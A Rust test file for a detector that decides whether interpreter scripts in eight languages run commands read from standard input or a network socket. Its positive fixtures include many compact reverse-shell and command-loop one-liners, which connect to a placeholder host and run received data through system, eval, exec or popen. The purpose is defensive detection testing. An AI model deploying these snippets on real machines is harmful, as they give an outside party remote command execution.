use super::super::{Verdict, script_takes_commands};
use crate::executable::{InterpreterFamily, Kind};
use InterpreterFamily::{Gawk, Lua, Node, Perl, Php, Python, Ruby, Tcl};
use proptest::prelude::*;

fn verdict(family: InterpreterFamily, text: &str) -> Verdict {
    script_takes_commands(&Kind::Interpreter(family), text.as_bytes(), &[])
}

#[test]
fn programs_that_execute_what_they_read() {
    let cases = [
        (Python, "import sys,os\nfor l in sys.stdin: os.system(l)"),
        (Python, "import os\nwhile 1: os.system(input())"),
        (Python, "import sys\nline = sys.stdin.readline().strip()\ncmd = line\nexec(cmd)"),
        (
            Python,
            "import subprocess as u\nwhile True:\n    c = input('> ')\n    print(u.run(c, shell=True, capture_output=True).stdout)",
        ),
        (
            Python,
            "import subprocess, sys\ndef serve(text):\n    return subprocess.getoutput(text)\nfor l in sys.stdin:\n    print(serve(l))",
        ),
        (Python, "import sys, subprocess\nsubprocess.run(['sh', '-c', sys.stdin.read()])"),
        (Python, "import sys, subprocess\nsubprocess.Popen(sys.stdin.readline().split())"),
        (Python, "from os import system as s\ns(input())"),
        (Python, "import os\ng = os.system\ng(input())"),
        (Python, "import os\nos.system(f'{input()}')"),
        (Python, "import os,sys\ng=getattr\nwhile 1: g(os,'sys'+'tem')(g(sys,'std'+'in').readline())"),
        (Python, "import os\nx = 'sys'\ngetattr(os, x + 'tem')(y)"),
        (Python, "m=__import__('subp'+'rocess')\nm.__dict__['ru'+'n'](1)"),
        (Python, "exec(bytes.fromhex('696d706f7274207379732c6f73'))"),
        (Python, "import code\ncode.interact()"),
        (Python, "import os\nwhile (l := os.read(0, 999)):\n    os.popen(l.decode())"),
        (Python, "import os\nf = open('/dev/stdin')\nos.system(f.readline())"),
        (Python, "class H:\n    def run(self):\n        self.line = input()\n        eval(self.line)"),
        (
            Python,
            "import subprocess,os\np=subprocess.Popen(['sh'],stdin=-1)\nwhile 1:\n    b=os.read(0,999)\n    p.stdin.write(b)",
        ),
        (Perl, "while(<STDIN>){system($_)}"),
        (Perl, "while (my $l = <STDIN>) { chomp $l; my $o = `$l`; print $o; }"),
        (Perl, "while(<>){print eval}"),
        (Perl, "system $_ while <>;"),
        (Perl, "sub go { my ($c) = @_; exec $c } go(scalar <STDIN>);"),
        (Perl, "$l = <STDIN>; open(P, \"$l|\"); print <P>;"),
        (Perl, "$|=1; open(F,\"<&=0\"); while(defined($l=readline(F))){ eval q(sys).q(tem $l) }"),
        (Ruby, "while l=STDIN.gets; eval l; STDOUT.flush; end"),
        (Ruby, "STDIN.each_line { |l| puts `#{l}` }"),
        (Ruby, "ARGF.each do |line|\n  system line\nend"),
        (Ruby, "require 'open3'\nl = gets\no, s = Open3.capture2e(l)"),
        (Php, "<?php while($l=fgets(STDIN)) system($l);"),
        (Php, "<?php $c = trim(file_get_contents('php://stdin')); echo shell_exec($c);"),
        (Php, "<?php $l = readline(); eval($l);"),
        (
            Node,
            "require(\"readline\").createInterface({input:process.stdin}).on(\"line\",l=>{try{process.stdout.write(require(\"child_process\").execSync(l))}catch(e){}})",
        ),
        (
            Node,
            "const cp = require('child_process');\nprocess.stdin.on('data', function (d) {\n  cp.exec(d.toString(), (e, o) => console.log(o));\n});",
        ),
        (Node, "const s = require('fs').readFileSync(0, 'utf8'); eval(s)"),
        (
            Lua,
            "for l in io.lines() do local f=io.popen(l); io.write(f:read(\"*a\")); io.flush(); f:close() end",
        ),
        (Lua, "while true do os.execute(io.read()) end"),
        (Lua, "local s = io.stdin:read('*a') load(s)()"),
        (Tcl, "while {[gets stdin line] >= 0} { catch {exec sh -c $line} r; puts $r }"),
        (Tcl, "gets stdin l\neval $l"),
        (Tcl, "spawn sh\ninteract"),
        (Gawk, "{ system($0) }"),
        (Gawk, "{ while (($0 | getline x) > 0) print x }"),
    ];
    let missed: Vec<_> =
        cases.into_iter().filter(|(family, text)| verdict(*family, text).descriptor != Some(0)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn programs_that_only_handle_what_they_read() {
    let cases = [
        (Python, "import sys,subprocess\nfor l in sys.stdin: print(len(l))"),
        (Python, "name = input('name? ')\nprint('hello', name)"),
        (
            Python,
            "import subprocess\nc = input()\nif c == 'date':\n    print(subprocess.getoutput('date'))\nelif c == 'up':\n    subprocess.run(['uptime'])",
        ),
        (
            Python,
            "import subprocess\nMENU = {'1': ['date'], '2': ['uptime']}\nc = input()\nsubprocess.run(MENU[c])",
        ),
        (
            Python,
            "import subprocess, sys\nq = sys.stdin.readline()\nsubprocess.run(['grep', '-F', q, '/srv/index'])",
        ),
        (Python, "import os, shlex\nos.system('grep -- ' + shlex.quote(input()) + ' index')"),
        (Python, "import os\nos.system('sleep %d' % int(input()))"),
        (Python, "import sys, re\np = re.compile('x')\nfor l in sys.stdin:\n    if p.match(l): print(l)"),
        (
            Python,
            "import sys\nfor l in sys.stdin:\n    with open('/var/log/x', 'a') as f:\n        f.write(l)\nimport subprocess\nsubprocess.call(['logrotate'])",
        ),
        (
            Python,
            "import sys\nclass A:\n    def __init__(self, n):\n        self.x = getattr(self, n, None)\nprint(sys.stdin.read())",
        ),
        (
            Python,
            "import subprocess\nsubprocess.run(['sh', '-c', 'date'], stdin=subprocess.DEVNULL)\nprint(input())",
        ),
        (
            Python,
            "import subprocess,sys\np=subprocess.Popen(['tee','x'],stdin=-1)\nfor l in sys.stdin: p.stdin.write(l)",
        ),
        (
            Python,
            "import subprocess\np=subprocess.Popen(['bash'],stdin=-1)\np.communicate(b'date')\nprint(input())",
        ),
        (Python, "# os.system(input())\nprint(input())"),
        (Python, "print('''os.system(input())''', input())"),
        (Perl, "while(<STDIN>){ chomp; print \"got $_\\n\"; } system('date');"),
        (Perl, "my $n = <STDIN>; system('grep', '-F', $n, 'index');"),
        (Perl, "eval { print while <STDIN> }; print `date`;"),
        (Perl, "my $l = <STDIN>; open(F, '>', '/tmp/x'); print F $l; my $d = `date`;"),
        (Ruby, "l = gets\nputs \"hello #{l}\"\nputs `date`"),
        (Ruby, "require 'open3'\nl = gets\nOpen3.capture2e('grep', '-F', l, 'index')"),
        (Ruby, "STDIN.each_line { |l| puts l.upcase }\nsystem 'date'"),
        (Php, "<?php $l = fgets(STDIN); echo htmlspecialchars($l); echo shell_exec('uptime');"),
        (Php, "<?php $l = fgets(STDIN); system('grep -- ' . escapeshellarg($l) . ' index');"),
        (
            Node,
            "const cp = require('child_process');\nprocess.stdin.on('data', d => console.log(String(d).length));\ncp.exec('date', (e, o) => console.log(o));",
        ),
        (
            Node,
            "const cp = require('child_process'); process.stdin.on('data', d => { const m = /a(.)/.exec(d); console.log(m) })",
        ),
        (
            Node,
            "const cp = require('child_process'); process.stdin.on('data', d => { cp.execFile('grep', ['-F', d, 'index']) })",
        ),
        (Lua, "for l in io.lines() do print(#l) end os.execute('date')"),
        (Tcl, "gets stdin l\nputs \"hello $l\"\nputs [exec date]"),
        (Tcl, "spawn ssh host\nexpect password\nsend x"),
        (Gawk, "{ print $1 } END { system(\"date\") }"),
    ];
    let wrong: Vec<_> =
        cases.into_iter().filter(|(family, text)| verdict(*family, text).takes_commands()).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn programs_that_execute_what_comes_from_a_connection() {
    let cases = [
        (
            Python,
            "import socket,subprocess as u\ns=socket.create_connection((\"h\",1))\nwhile 1:\n d=s.recv(999)\n if not d: break\n s.sendall(u.run(d.decode(),shell=True,capture_output=True).stdout)",
        ),
        (
            Python,
            "import socket\ns=socket.create_connection((\"h\",1))\nwhile 1:\n d=s.recv(999)\n s.sendall(str(eval(d)).encode())",
        ),
        (Python, "import socket\ns=socket.socket();s.connect(('h',1))\nexec(s.makefile().read())"),
        (Perl, "use IO::Socket; $c=IO::Socket::INET->new(\"h:1\");while(<$c>){print $c `$_`;}"),
        (
            Perl,
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton('h')));while(<S>){print S `$_`}",
        ),
        (Perl, "socket(my $l,2,1,6);listen($l,1);accept(my $c,$l);while(my $x=<$c>){system $x}"),
        (Perl, "$c=IO::Socket::INET->new(PeerAddr=>\"h:1\");while(my $l=<$c>){eval $l}"),
        (Ruby, "c=TCPSocket.new(\"h\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"),
        (Php, "<?php $s=fsockopen(\"h\",1);while(!feof($s)){fwrite($s,shell_exec(fgets($s)));}"),
        (Php, "<?php $s=fsockopen(\"h\",1);while($l=fgets($s)){eval($l);}"),
        (
            Node,
            "require(\"net\").connect(1,\"h\",function(){this.on(\"data\",d=>require(\"child_process\").exec(d.toString(),(e,o)=>this.write(o)))})",
        ),
        (
            Node,
            "const net=require('net');const c=net.connect(1,'h');c.on('data',d=>{c.write(String(eval(d.toString())))})",
        ),
        (
            Node,
            "const n=require('net'),p=require('child_process');const c=n.connect(1,'h');c.on('data',d=>p.exec(d.toString(),(e,o)=>c.write(o)));",
        ),
        (
            Python,
            "import socket,subprocess\ns=socket.create_connection((\"h\",1))\nsubprocess.run('timeout 9 '+s.recv(99).decode(),shell=True)",
        ),
        (
            Lua,
            "local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"h\",1);while true do local r,x=t:receive();local f=assert(io.popen(r,\"r\"));t:send(f:read(\"*a\"));end",
        ),
        (Tcl, "set s [socket h 1]; while {[gets $s c]>=0} { catch {exec sh -c $c} r; puts $s $r; flush $s }"),
        (
            Gawk,
            "BEGIN{s=\"/inet/tcp/0/h/1\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)}}",
        ),
    ];
    let missed: Vec<_> = cases.into_iter().filter(|(family, text)| !verdict(*family, text).network).collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let quiet = [
        (
            Python,
            "import socket,os\ns=socket.create_connection((\"h\",1))\nos.system('git pull '+s.recv(99).decode())",
        ),
        (
            Python,
            "import socket,os\ns=socket.create_connection((\"h\",1))\nname=s.recv(99)\nos.popen(f'convert {name} x.png')",
        ),
        (
            Node,
            "const n=require('net'),p=require('child_process');const c=n.connect(1,'h');c.on('data',d=>{console.log(d);p.exec('date',(e,o)=>c.write(o))});",
        ),
        (
            Python,
            "import socket,platform,subprocess\ns=socket.create_connection((\"h\",1))\nprint(subprocess.getoutput(\"uname -p\"))",
        ),
        (
            Python,
            "import socket\ns=socket.create_connection((\"h\",1))\nopen('/tmp/x','wb').write(s.recv(99))",
        ),
        (
            Python,
            "import socket\ns=socket.create_connection(('h',1),2)\ns.sendall(b'PING')\nassert s.recv(4)==b'PONG'",
        ),
        (
            Python,
            "import http.server,subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n def do_GET(s):\n  o=subprocess.run(\"uptime\",shell=True,capture_output=True).stdout;s.wfile.write(o)\nhttp.server.HTTPServer((\"\",1),H).handle_request()",
        ),
        (Perl, "$c=IO::Socket::INET->new(\"h:1\"); $h=`hostname; date`; print $c \"ping $h\\n\";"),
        (Php, "<?php $s=fsockopen(\"h\",1);echo shell_exec(\"uptime\");"),
        (
            Node,
            "const h=require(\"http\"),c=require(\"child_process\");h.createServer((q,r)=>{c.exec(\"uptime\",(e,o)=>r.end(o))}).listen(1)",
        ),
        (Ruby, "s=TCPSocket.new('h',1); s.puts `uptime`; File.write('/tmp/x', s.read)"),
        (Gawk, "BEGIN{s=\"/inet/tcp/0/h/1\"; print \"x\" |& s; s |& getline l; print l}"),
    ];
    let wrong: Vec<_> =
        quiet.into_iter().filter(|(family, text)| verdict(*family, text).takes_commands()).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn descriptors_by_their_number() {
    for (family, text, descriptor) in [
        (Python, "import os\nos.system(os.fdopen(3).readline())", 3),
        (Python, "import os\nfor l in open('/dev/fd/4'): os.system(l)", 4),
        (Perl, "open(F,\"<&=5\");while(<F>){system $_}", 5),
        (Node, "eval(require('fs').readFileSync(6,'utf8'))", 6),
    ] {
        assert_eq!(verdict(family, text).descriptor, Some(descriptor), "{text}");
    }
}

#[test]
fn the_first_line_tells_the_interpreter() {
    let named = |line: &str, text: &str| {
        let kind = crate::executable::recognise(line.as_bytes()).kind;
        script_takes_commands(&kind, format!("{line}\n{text}").as_bytes(), &[]).takes_commands()
    };
    assert!(named("#!/bin/sh\n", "exec sh"));
    assert!(named("#!/bin/bash\n", "while read -r l; do eval \"$l\"; done"));
    assert!(named("#!/usr/bin/env -S python3 -u\n", "import os\nos.system(input())"));
    assert!(named("#!/usr/bin/env ruby\n", "eval gets"));
    assert!(!named("#!/bin/sh\n", "read x; echo hello $x"));
    assert!(!named("#!/usr/bin/env cat\n", "exec sh"));
    // A script that becomes another language's in its first line.
    assert!(!named("#!/bin/sh\n# \\\n", "exec expect -f \"$0\" ${1+\"$@\"}\nexpect -re .+\nsend x"));
    assert!(named("#!/bin/sh\n# \\\n", "exec tclsh \"$0\"\ngets stdin l\neval $l"));
    assert!(named("#!/bin/sh\n", "exec tclsh \"$0\" || sh"));
}

#[test]
fn hostile_programs_are_read_in_linear_time() {
    for family in [Python, Perl, Ruby, Php, Node, Lua, Tcl, Gawk] {
        for unit in [
            "eval(",
            "a=",
            "(",
            "{",
            "[",
            "x=>",
            "\"",
            "'",
            "`",
            "/*",
            "def f(",
            "x.",
            "$",
            "system ",
            "for x in ",
            "getattr(",
            "q(",
            "%x{",
            "|",
            "\"\"\"",
            "f(input(",
            "a=b;b=a;",
            "sub a{a(",
            "=",
            "system(\"|getline",
            "return ",
        ] {
            let text = unit.repeat(60_000 / unit.len());
            let start = std::time::Instant::now();
            verdict(family, &text);
            assert!(start.elapsed().as_secs() < 3, "{family:?} {unit:?}: {:?}", start.elapsed());
        }
    }
}

proptest! {
    #[test]
    fn arbitrary_programs_do_not_panic(
        family in prop_oneof![Just(Python), Just(Perl), Just(Ruby), Just(Php), Just(Node), Just(Lua), Just(Tcl), Just(Gawk)],
        parts in proptest::collection::vec(
            prop_oneof!["[a-z_]{1,5}", "[$@`(){}<>|&;'\"\\\\ \n!#=*.,:/%\\[\\]-]{1,3}", Just("eval".to_owned()), Just("input()".to_owned()),
                Just("STDIN".to_owned()), Just("getattr(os,".to_owned()), Just("qx".to_owned()), Just("é".to_owned())], 0..40)
    ) {
        verdict(family, &parts.concat());
        verdict(family, &parts.join(" "));
    }
}

/// Looks at every script below the directories of `VEDETTE_SURVEY` (colon separated) and prints those that would take
/// commands.
#[test]
#[ignore = "reads every script of the machine; run it by hand with --nocapture after a change"]
fn survey() {
    let roots = std::env::var("VEDETTE_SURVEY")
        .unwrap_or_else(|_| "/usr/bin:/usr/sbin:/usr/lib/git-core:/etc".into());
    let mut pending: Vec<std::path::PathBuf> = roots.split(':').map(Into::into).collect();
    let (mut seen, mut taking) = (0, 0);
    while let Some(path) = pending.pop() {
        let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
        if meta.is_dir() {
            pending.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|e| e.path()));
        } else if meta.is_file() && meta.len() < 1 << 20 {
            let Ok(text) = std::fs::read(&path) else { continue };
            let extension = path.extension().and_then(|e| e.to_str()).unwrap_or_default();
            let kind = match extension {
                "py" => Kind::Interpreter(Python),
                "pm" | "pl" => Kind::Interpreter(Perl),
                "rb" => Kind::Interpreter(Ruby),
                "js" => Kind::Interpreter(Node),
                _ if text.starts_with(b"#!") => crate::executable::recognise(&text).kind,
                _ => continue,
            };
            let start = std::time::Instant::now();
            let verdict = script_takes_commands(&kind, &text, &[]);
            seen += 1;
            if verdict.takes_commands() || start.elapsed().as_millis() > 500 {
                taking += 1;
                println!("{} {kind:?} {verdict:?} {:?}", path.display(), start.elapsed());
            }
        }
    }
    println!("{taking} of {seen} scripts");
}
